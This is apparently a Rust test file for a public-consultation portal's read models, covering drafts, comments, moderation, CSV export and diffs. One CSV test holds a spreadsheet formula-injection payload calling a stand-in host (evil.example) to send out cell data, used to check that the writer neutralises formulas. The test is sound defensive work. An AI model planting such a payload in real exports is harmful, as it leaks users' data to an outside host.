//! The two views after the hand-made story of [`super::scenario`]: each assertion is a
//! fact the portal or the open data shows, checked on the rows the projector wrote.

use std::collections::HashMap;

use serde_json::{json, Value};

use super::comments::StoredComment;
use super::consultation_comments::{comment_id, CONSULTATION_COMMENTS};
use super::consultation_view::{self, ConsultationRow, Material};
use super::consultations::CONSULTATIONS;
use super::draft_view::{self, ArticlesAt, DraftRow};
use super::drafts::DRAFTS;
use super::scenario::{self, comments_of, DOC_1, DOC_2, DOC_3, DOC_4, PERSON_1, PERSON_2};
use super::{comments, comments_csv, diff, ParticipationProjector};
use crate::support::scenario::{apply, project, row, Rows};
use crate::Projector;

fn rows() -> Rows {
    project(&ParticipationProjector, &scenario::entries())
}

/// The scenario's draft D1, typed.
fn d1(rows: &Rows) -> DraftRow {
    DraftRow::from_value(row(rows, DRAFTS, "D1")).expect("a draft row")
}

/// The scenario's consultation C1, typed.
fn c1(rows: &Rows) -> ConsultationRow {
    ConsultationRow::from_value(row(rows, CONSULTATIONS, "C1")).expect("a consultation row")
}

/// The scenario's comments of C1, in number order.
fn c1_comments(rows: &Rows) -> Vec<StoredComment> {
    comments_of(rows, "C1")
}

/// A typed view as the JSON answer shows it.
fn json_of<T: serde::Serialize>(view: &T) -> Value {
    serde_json::to_value(view).expect("a view serializes")
}

/// Comment texts as the HTTP layer would read them, for every comment (the
/// presentation must still refuse to show the hidden ones).
fn every_text() -> HashMap<u64, String> {
    [
        (1, "Préciser l'objet."),
        (2, "Achetez maintenant !"),
        (3, "Mon voisin M. X, 06 00 00 00 00"),
        (4, "Supprimer le registre."),
    ]
    .into_iter()
    .map(|(n, t)| (n, t.to_owned()))
    .collect()
}

#[test]
fn a_draft_keeps_every_revision_its_consultation_and_its_submission() {
    let rows = rows();
    let d1 = row(&rows, DRAFTS, "D1");
    assert_eq!(d1["institution"], "MCRP");
    assert_eq!(d1["status"], "submitted");
    assert_eq!(d1["latest_revision"], 3);
    assert_eq!(d1["submission_note"], "Transmis au Secrétariat général.");
    assert_eq!(d1["submitted_index"], 17);
    let d1 = DraftRow::from_value(d1).unwrap();
    assert_eq!(d1.revision_numbers(), [1, 2, 3]);

    let r2 = d1.revision(2).unwrap();
    assert_eq!(r2.articles, None);
    let sha = domain::participation::text_sha256(&scenario::revision_2());
    assert_eq!(
        draft_view::articles_at(r2),
        ArticlesAt::Document(sha.clone())
    );
    assert_eq!(r2.text_sha256, sha);
    assert_eq!(r2.article_ids, ["art-1", "art-2", "art-3", "art-4"]);
    assert_eq!(r2.index, 3);
    assert_eq!(
        draft_view::articles_at(d1.revision(1).unwrap()),
        ArticlesAt::Inline(scenario::revision_1())
    );
    let r3 = d1.revision(3).unwrap();
    assert_eq!(r3.motivated_by[0].comment, Some(1));
    assert_eq!(r3.motivated_by[1].recommendation.as_deref(), Some("R-1"));

    // The page shows revision 2's articles from its document, and links.
    let mut texts = HashMap::new();
    texts.insert(2, scenario::revision_2());
    let page = json_of(&draft_view::present(&d1, &texts));
    assert_eq!(page["revisions_count"], 3);
    assert_eq!(page["revisions"][1]["articles_source"], "document");
    assert_eq!(page["revisions"][1]["articles"][3]["id"], "art-4");
    assert_eq!(page["revisions"][0]["articles_source"], "inline");
    assert_eq!(page["revisions"][0]["diff"], Value::Null);
    assert_eq!(
        page["revisions"][2]["diff"],
        "/v1/drafts/D1/diff?from=2&to=3"
    );
    assert_eq!(
        page["revisions"][2]["motivated_by"][0]["link"],
        "/v1/consultations/C1"
    );
    assert_eq!(page["revisions"][2]["entry"], "/v1/log/entries/16");
    assert_eq!(page["consultations"][0]["id"], "C1");
    assert_eq!(page["consultations"][0]["revision"], 2);
    assert_eq!(page["audit_trail"], "/v1/streams/draft/D1");
    assert_eq!(page["entries"].as_array().unwrap().len(), 5);
    // Without the document's text, revision 2 shows no articles rather than wrong ones.
    assert_eq!(
        json_of(&draft_view::present(&d1, &HashMap::new()))["revisions"][1]["articles"],
        Value::Null
    );

    let listed = json_of(&draft_view::summary(&d1));
    assert_eq!(listed["revisions_count"], 3);
    assert!(listed.get("revisions").is_none() && listed.get("entries").is_none());
}

#[test]
fn a_consultation_keeps_comments_moderation_responses_and_results() {
    let rows = rows();
    let c1 = row(&rows, CONSULTATIONS, "C1");
    assert_eq!(c1["status"], "results");
    assert_eq!(c1["year"], 2026);
    assert_eq!(c1["institution"], "MCRP");
    assert_eq!(c1["draft"], "D1");
    assert_eq!(c1["revision"], 2);
    assert_eq!(c1["comments_at_close"], 4);
    assert_eq!(c1["closed_index"], 13);

    let typed = ConsultationRow::from_value(c1).unwrap();
    let stored = c1_comments(&rows);
    let all: Vec<&StoredComment> = stored.iter().collect();
    let comment = |n: &str| {
        let n: u64 = n.parse().unwrap();
        all.iter().find(|c| c.number == n).copied().unwrap()
    };
    let c = |n: u64| row(&rows, CONSULTATION_COMMENTS, &comment_id("C1", n));
    assert_eq!(c(1)["channel"], "association");
    assert_eq!(c(1)["association"], "A1");
    assert_eq!(c(1)["article"], "art-1");
    assert_eq!(c(1)["document"], DOC_1);
    assert_eq!(c(2)["channel"], "public");
    assert_eq!(c(2)["person"], PERSON_1);
    assert_eq!(c(2)["article"], Value::Null);
    // Hidden then restored: visible, with both actions in its history.
    assert_eq!(c(2)["hidden"], false);
    assert_eq!(comments::history(comment("2")).len(), 2);
    assert!(comments::is_restored(comment("2")));
    // Hidden on personal data: its text is withheld.
    assert_eq!(c(3)["hidden"], true);
    assert_eq!(c(3)["withheld"], true);
    assert_eq!(
        comments::ground(comment("3")).as_deref(),
        Some("personal_data")
    );
    assert_eq!(c(1)["response"]["position"], "accepted");
    assert_eq!(c(4)["response"]["reasoning"], "Le registre est remplacé.");
    assert_eq!(c(3)["response"], Value::Null);
    assert_eq!(c1["results"]["recommendations"][0]["id"], "R-1");
    assert_eq!(c1["results"]["answered"], 3);
    assert_eq!(c1["motivated_revisions"]["3"]["comments"], json!([1]));
    assert_eq!(
        c1["motivated_revisions"]["3"]["recommendations"],
        json!(["R-1"])
    );

    let counts = json_of(&comments::counts(&all));
    assert_eq!(
        counts,
        json!({"received": 4, "visible": 3, "hidden": 1, "restored": 1, "withheld": 1,
               "answered": 3, "unanswered_visible": 0, "participants": 4})
    );
    // Only public texts are read, and only names of people not erased are looked up.
    assert_eq!(
        comments::public_documents(&all),
        [
            (1, DOC_1.to_owned()),
            (2, DOC_2.to_owned()),
            (4, DOC_4.to_owned())
        ]
    );
    assert_eq!(typed.persons_to_name(&all), [(2, PERSON_1.to_owned())]);
    assert!(!comments::public_documents(&all)
        .iter()
        .any(|(_, d)| d == DOC_3));
    // The consultation's row holds none of it: no comment, no comment's entry.
    assert!(c1.get("comments").is_none());
    assert_eq!(
        crate::rows::entry_lines(typed.entries.clone())
            .into_iter()
            .map(|e| e.event_type)
            .collect::<Vec<_>>(),
        [
            "ConsultationOpened",
            "PersonalDataErased",
            "ConsultationClosed",
            "ResultsPublished"
        ]
    );
    assert_eq!(
        c(1)["entries"],
        json!({"5": "CommentSubmitted", "14": "CommentsAnswered"})
    );
}

#[test]
fn the_consultation_page_groups_comments_per_article_and_never_shows_hidden_text() {
    let rows = rows();
    let c1 = c1(&rows);
    let stored = c1_comments(&rows);
    let all: Vec<&StoredComment> = stored.iter().collect();
    let texts = every_text();
    let mut authors = HashMap::new();
    authors.insert(2, "Samira B.".to_owned());
    authors.insert(3, "Erased Person".to_owned());
    let articles = scenario::revision_2();
    let title = d1(&rows).title;
    let page = json_of(&consultation_view::present(
        &c1,
        &all,
        &Material {
            draft_title: Some(&title),
            articles: Some(&articles),
            texts: &texts,
            authors: &authors,
        },
    ));
    assert_eq!(
        page["draft_title"],
        "Projet de loi sur la consultation publique"
    );
    assert_eq!(page["articles"].as_array().unwrap().len(), 4);
    assert_eq!(page["articles"][0]["heading"], "Objet");
    assert_eq!(page["articles"][0]["comments"][0]["number"], 1);
    assert_eq!(
        page["articles"][0]["comments"][0]["text"],
        "Préciser l'objet."
    );
    assert_eq!(
        page["articles"][0]["comments"][0]["response"]["position"],
        "accepted"
    );
    assert_eq!(
        page["articles"][0]["comments"][0]["motivated_revisions"],
        json!([{"draft": "D1", "revision": 3, "diff": "/v1/drafts/D1/diff?from=2&to=3"}])
    );
    assert_eq!(page["text_comments"][0]["number"], 2);
    assert_eq!(page["text_comments"][0]["author"], "Samira B.");
    assert_eq!(page["text_comments"][0]["status"], "visible");

    let hidden = &page["articles"][1]["comments"][0];
    assert_eq!(hidden["number"], 3);
    assert_eq!(hidden["status"], "hidden");
    assert_eq!(hidden["text"], Value::Null);
    assert_eq!(hidden["author"], Value::Null);
    assert_eq!(hidden["withheld"], true);
    assert_eq!(hidden["placeholder"]["ground"], "personal_data");
    assert_eq!(
        hidden["placeholder"]["label"]["fr"],
        "Données personnelles d'autrui"
    );
    assert_eq!(hidden["moderation"][0]["action"], "hide");
    assert!(
        !page.to_string().contains("06 00 00 00 00"),
        "a hidden text leaked"
    );
    assert!(
        !page.to_string().contains(PERSON_1),
        "a person reference leaked"
    );

    assert_eq!(
        page["results"]["recommendations"][0]["motivated_revisions"][0]["revision"],
        3
    );
    assert_eq!(page["results"]["at_publication"]["hidden"], 1);
    assert_eq!(page["counts"]["received"], 4);
    assert_eq!(page["erasures"][0]["reason"], "Demande de l'intéressé");
    assert!(!page.to_string().contains(PERSON_2));
    assert_eq!(page["consulted_revision"]["number"], 2);

    // Without the text, the articles are still listed by id with their comments.
    let page = json_of(&consultation_view::present(
        &c1,
        &all,
        &Material {
            draft_title: None,
            articles: None,
            texts: &texts,
            authors: &HashMap::new(),
        },
    ));
    assert_eq!(page["articles"][3]["id"], "art-4");
    assert_eq!(page["articles"][3]["heading"], Value::Null);
    assert_eq!(page["articles"][3]["comments"][0]["number"], 4);
    assert_eq!(page["consulted_revision"]["text_available"], false);

    let listed = json_of(&consultation_view::summary(
        &c1,
        Some(title),
        comments::counts(&all),
    ));
    assert!(listed.get("comments").is_none());
    assert_eq!(listed["counts"]["hidden"], 1);
    assert_eq!(listed["results"]["recommendations_count"], 1);
    assert_eq!(listed["audit_trail"], "/v1/streams/consultation/C1");
}

#[test]
fn the_csv_lists_every_comment_without_personal_data_or_hidden_text() {
    let rows = rows();
    let c1 = c1(&rows);
    let texts: comments_csv::Texts = every_text()
        .into_iter()
        .map(|(n, t)| (("C1".to_owned(), n), t))
        .collect();
    let bytes = comments_csv::write(&[(c1, c1_comments(&rows))], &texts).unwrap();
    let text = String::from_utf8(bytes.clone()).unwrap();
    assert!(
        !text.contains(PERSON_1) && !text.contains(PERSON_2),
        "{text}"
    );
    assert!(!text.contains("06 00 00 00 00"), "{text}");
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        comments_csv::COLUMNS
    );
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 4);
    let col = |name: &str| {
        comments_csv::COLUMNS
            .iter()
            .position(|c| *c == name)
            .unwrap()
    };
    assert_eq!(&records[0][col("comment_number")], "1");
    assert_eq!(&records[0][col("association_id")], "A1");
    assert_eq!(&records[0][col("text")], "Préciser l'objet.");
    assert_eq!(&records[0][col("response_position")], "accepted");
    assert_eq!(&records[1][col("channel")], "public");
    assert_eq!(&records[1][col("status")], "visible");
    assert_eq!(&records[1][col("ground")], "");
    assert_eq!(&records[2][col("status")], "hidden");
    assert_eq!(&records[2][col("ground")], "personal_data");
    assert_eq!(&records[2][col("withheld")], "true");
    assert_eq!(&records[2][col("text")], "");
    assert_eq!(&records[2][col("article")], "art-2");
    assert_eq!(
        &records[3][col("response_reasoning")],
        "Le registre est remplacé."
    );
    assert_eq!(&records[3][col("submitted_at")], "2026-03-10T09:00:00.000Z");
}

#[test]
fn the_diff_of_the_motivated_revision_links_its_changes_to_the_comment() {
    let rows = rows();
    let d1 = d1(&rows);
    let commented: HashMap<(String, u64), String> = c1_comments(&rows)
        .iter()
        .filter_map(|c| Some((("C1".to_owned(), c.number), c.article.clone()?)))
        .collect();
    let (r2, r3) = (d1.revision(2).unwrap(), d1.revision(3).unwrap());
    let motivations = diff::motivations(&[r3], &commented);
    let (a2, a3) = (scenario::revision_2(), scenario::revision_3());
    let doc = json_of(&diff::present(
        "D1",
        diff::Side {
            revision: r2,
            articles: &a2,
        },
        diff::Side {
            revision: r3,
            articles: &a3,
        },
        &[r3],
        &motivations,
    ));
    assert_eq!(
        doc["summary"],
        json!({"added": 1, "removed": 1, "changed": 1, "unchanged": 2})
    );
    let art1 = &doc["articles"][0];
    assert_eq!(art1["change"], "changed");
    assert_eq!(art1["motivated_by"][0]["comment"], 1);
    assert_eq!(art1["motivated_by"][0]["scope"], "article");
    assert_eq!(art1["motivated_by"][1]["recommendation"], "R-1");
    let inserted: String = art1["words"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|w| w["op"] == "insert")
        .map(|w| w["text"].as_str().unwrap())
        .collect();
    assert!(inserted.contains("garanties"), "{art1}");
    let art5 = doc["articles"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == "art-5")
        .unwrap();
    assert_eq!(art5["change"], "added");
    assert_eq!(
        art5["motivated_by"],
        json!([{"consultation": "C1", "comment": null,
        "recommendation": "R-1", "revision": 3, "article": null, "scope": "text",
        "link": "/v1/consultations/C1"}])
    );
    let art4 = doc["articles"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == "art-4")
        .unwrap();
    assert_eq!(art4["change"], "removed");
}

#[test]
fn replaying_every_entry_changes_no_row() {
    // The runner may apply an entry again after a crash, and two processes may project
    // the same log: collections must not grow and states must not flip.
    let entries = scenario::entries();
    let once = project(&ParticipationProjector, &entries);
    let mut twice = Rows::new();
    for e in &entries {
        for _ in 0..2 {
            for change in ParticipationProjector.project(e).unwrap() {
                apply(&mut twice, change);
            }
        }
    }
    assert_eq!(once, twice);
    // And projecting the whole log a second time over the rows changes nothing either.
    let mut again = once.clone();
    for e in &entries {
        for change in ParticipationProjector.project(e).unwrap() {
            apply(&mut again, change);
        }
    }
    assert_eq!(once, again);
}

#[test]
fn other_streams_change_nothing_and_malformed_entries_are_reported() {
    let mut e = scenario::entries().remove(0);
    e.stream = "offer/O1".into();
    assert!(ParticipationProjector.project(&e).unwrap().is_empty());
    e.stream = "no-slash".into();
    assert!(ParticipationProjector.project(&e).unwrap().is_empty());
    for (stream, event_type, data) in [
        ("consultation/C9", "CommentModerated", json!("garbage")),
        ("consultation/C9", "CommentsAnswered", json!("garbage")),
        ("draft/D9", "RevisionPublished", json!("garbage")),
        ("consultation/C9", "ConsultationOpened", json!("garbage")),
        (
            "consultation/C9",
            "ConsultationOpened",
            json!({"draft": ""}),
        ),
        ("draft/D9", "NoSuchEvent", json!({})),
    ] {
        e.stream = stream.into();
        e.event_type = event_type.into();
        e.data = data;
        let refused = ParticipationProjector.project(&e).unwrap_err();
        assert_eq!(refused.index, e.index, "{stream} {event_type}");
    }
}

#[test]
fn the_csv_makes_formulas_text_and_streams_the_same_bytes() {
    let rows = rows();
    let c1 = c1(&rows);
    let comments = c1_comments(&rows);
    let mut texts: comments_csv::Texts = every_text()
        .into_iter()
        .map(|(n, t)| (("C1".to_owned(), n), t))
        .collect();
    let formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Voir\")";
    texts.insert(("C1".to_owned(), 1), formula.to_owned());
    let whole = comments_csv::write(&[(c1.clone(), comments.clone())], &texts).unwrap();
    let mut reader = csv::Reader::from_reader(whole.as_slice());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let col = |name: &str| {
        comments_csv::COLUMNS
            .iter()
            .position(|c| *c == name)
            .unwrap()
    };
    assert_eq!(records[0][col("text")], format!("'{formula}"));
    assert_eq!(&records[0][col("comment_number")], "1");
    // Header, then the comments one at a time: the same bytes as the whole document.
    let mut pieces = comments_csv::header().unwrap();
    for comment in &comments {
        pieces.extend(comments_csv::rows(&c1, &[comment], &texts).unwrap());
    }
    assert_eq!(pieces, whole);
}

/// The member names of a JSON object, in any order.
fn members(value: &Value) -> Vec<&str> {
    let mut names: Vec<&str> = value
        .as_object()
        .expect("an object")
        .keys()
        .map(String::as_str)
        .collect();
    names.sort_unstable();
    names
}

fn sorted<'a>(names: &[&'a str]) -> Vec<&'a str> {
    let mut names = names.to_vec();
    names.sort_unstable();
    names
}

#[test]
fn every_row_reads_as_its_typed_shape_and_writes_back_the_same() {
    let rows = rows();
    let mut seen = 0;
    for ((view, _), stored) in &rows {
        let back = match *view {
            DRAFTS => json_of(&DraftRow::from_value(stored).unwrap()),
            CONSULTATIONS => json_of(&ConsultationRow::from_value(stored).unwrap()),
            CONSULTATION_COMMENTS => json_of(&StoredComment::from_value(stored).unwrap()),
            other => panic!("a row of {other}"),
        };
        assert_eq!(&back, stored);
        seen += 1;
    }
    // A draft, a consultation and its four comments.
    assert_eq!(seen, 6);
    let text = row(&rows, CONSULTATIONS, "C1").to_string();
    assert_eq!(ConsultationRow::from_text(&text).unwrap(), c1(&rows));
    assert!(ConsultationRow::from_text("{\"id\": \"C1\"}").is_err());
    let text = row(&rows, CONSULTATION_COMMENTS, &comment_id("C1", 2)).to_string();
    assert_eq!(StoredComment::from_text(&text).unwrap().number, 2);
    // A consultation row of the shape before comments had rows of their own is refused.
    let mut old = row(&rows, CONSULTATIONS, "C1").clone();
    old["comments"] = json!({});
    assert!(ConsultationRow::from_value(&old).is_err());
    assert_eq!(
        DraftRow::title_from_text(&row(&rows, DRAFTS, "D1").to_string()).unwrap(),
        "Projet de loi sur la consultation publique"
    );
}

#[test]
fn the_consultation_views_have_the_members_the_spec_documents() {
    // docs/consultations-read-models.md: the page, a comment, the counts, the list item.
    let rows = rows();
    let c1 = c1(&rows);
    let stored = c1_comments(&rows);
    let all: Vec<&StoredComment> = stored.iter().collect();
    let texts = every_text();
    let articles = scenario::revision_2();
    let material = Material {
        draft_title: Some("Projet"),
        articles: Some(&articles),
        texts: &texts,
        authors: &HashMap::new(),
    };
    let page = json_of(&consultation_view::present(&c1, &all, &material));
    for member in [
        "articles",
        "text_comments",
        "results",
        "motivated_revisions",
        "erasures",
        "counts",
        "draft_title",
        "audit_trail",
        "entries",
        "consulted_revision",
    ] {
        assert!(page.get(member).is_some(), "{member}");
    }
    // The read API adds `comments_page`; without it the member is absent, not null.
    assert!(page.get("comments").is_none() && page.get("comments_page").is_none());
    assert_eq!(
        members(&page["articles"][0]),
        ["comments", "heading", "id", "text"]
    );
    assert_eq!(
        members(&page["results"]["recommendations"][0]),
        ["id", "motivated_revisions", "text"]
    );
    assert_eq!(
        members(&page["erasures"][0]),
        ["index", "reason", "recorded_at"]
    );
    assert_eq!(
        members(&page["counts"]),
        sorted(&[
            "received",
            "visible",
            "hidden",
            "restored",
            "withheld",
            "answered",
            "unanswered_visible",
            "participants"
        ])
    );
    let comment = &page["articles"][0]["comments"][0];
    assert_eq!(
        members(comment),
        sorted(&[
            "number",
            "article",
            "channel",
            "association",
            "author",
            "submitted_at",
            "index",
            "entry",
            "document",
            "status",
            "withheld",
            "text",
            "placeholder",
            "moderation",
            "response",
            "motivated_revisions"
        ])
    );
    assert_eq!(
        members(&comment["response"]),
        ["index", "position", "reasoning", "recorded_at"]
    );
    let hidden = &page["articles"][1]["comments"][0];
    assert_eq!(
        members(&hidden["placeholder"]),
        ["ground", "hidden_at", "index", "label"]
    );
    assert_eq!(members(&hidden["placeholder"]["label"]), ["ar", "fr"]);

    let listed = json_of(&consultation_view::summary(
        &c1,
        None,
        comments::counts(&all),
    ));
    assert_eq!(listed["draft_title"], Value::Null);
    assert_eq!(
        members(&listed["results"]),
        ["published_at", "recommendations_count", "synthesis"]
    );
    for absent in ["comments", "erasures", "motivated_revisions", "entries"] {
        assert!(listed.get(absent).is_none(), "{absent}");
    }

    // The page of the comments on the whole text: the read API picks it in SQL.
    let page_of: Vec<&StoredComment> = all
        .iter()
        .copied()
        .filter(|c| c.article.is_none())
        .collect();
    assert_eq!(page_of.len(), 1);
    assert_eq!(page_of[0].number, 2);
    let shown = consultation_view::present_some(&c1, comments::counts(&all), &page_of, &material);
    assert!(shown.articles.iter().all(|a| a.comments.is_empty()));
    assert_eq!(shown.text_comments.len(), 1);
    assert_eq!(shown.counts.received, 4, "the counts are of every comment");
}

#[test]
fn the_draft_views_have_the_members_the_spec_documents() {
    let rows = rows();
    let d1 = d1(&rows);
    let page = json_of(&draft_view::present(&d1, &HashMap::new()));
    let revision = &page["revisions"][0];
    for member in [
        "articles",
        "articles_source",
        "motivated_by",
        "diff",
        "entry",
        "text_sha256",
    ] {
        assert!(revision.get(member).is_some(), "{member}");
    }
    assert_eq!(page["revisions"][1]["articles_source"], "document");
    assert_eq!(
        members(&page["revisions"][2]["motivated_by"][0]),
        ["comment", "consultation", "link", "recommendation"]
    );
    assert_eq!(
        members(&page["consultations"][0]),
        sorted(&[
            "id",
            "revision",
            "title",
            "opens_at",
            "closes_at",
            "index",
            "link"
        ])
    );
    let listed = json_of(&draft_view::summary(&d1));
    for member in [
        "latest_revision",
        "revisions_count",
        "consultations",
        "audit_trail",
    ] {
        assert!(listed.get(member).is_some(), "{member}");
    }
}

#[test]
fn an_unchanged_article_of_the_diff_has_no_text_nor_words() {
    let rows = rows();
    let d1 = d1(&rows);
    let (r1, r2) = (d1.revision(1).unwrap(), d1.revision(2).unwrap());
    let (a1, a2) = (scenario::revision_1(), scenario::revision_2());
    let doc = json_of(&diff::present(
        "D1",
        diff::Side {
            revision: r1,
            articles: &a1,
        },
        diff::Side {
            revision: r2,
            articles: &a2,
        },
        &[r2],
        &[],
    ));
    assert_eq!(
        members(&doc),
        sorted(&[
            "draft",
            "from",
            "to",
            "summary",
            "revisions",
            "motivated_by",
            "articles"
        ])
    );
    assert_eq!(
        members(&doc["from"]),
        ["index", "number", "recorded_at", "text_sha256"]
    );
    // Absent, not null: the members an article has depend on its change.
    assert_eq!(members(&doc["articles"][0]), ["change", "heading", "id"]);
    assert_eq!(
        members(&doc["articles"][1]),
        sorted(&[
            "id",
            "change",
            "heading",
            "previous_heading",
            "heading_changed",
            "text_changed",
            "heading_words",
            "words",
            "motivated_by"
        ])
    );
    assert_eq!(
        members(&doc["articles"][3]),
        ["change", "heading", "id", "motivated_by", "text"]
    );
    assert_eq!(doc["articles"][3]["change"], "added");
}
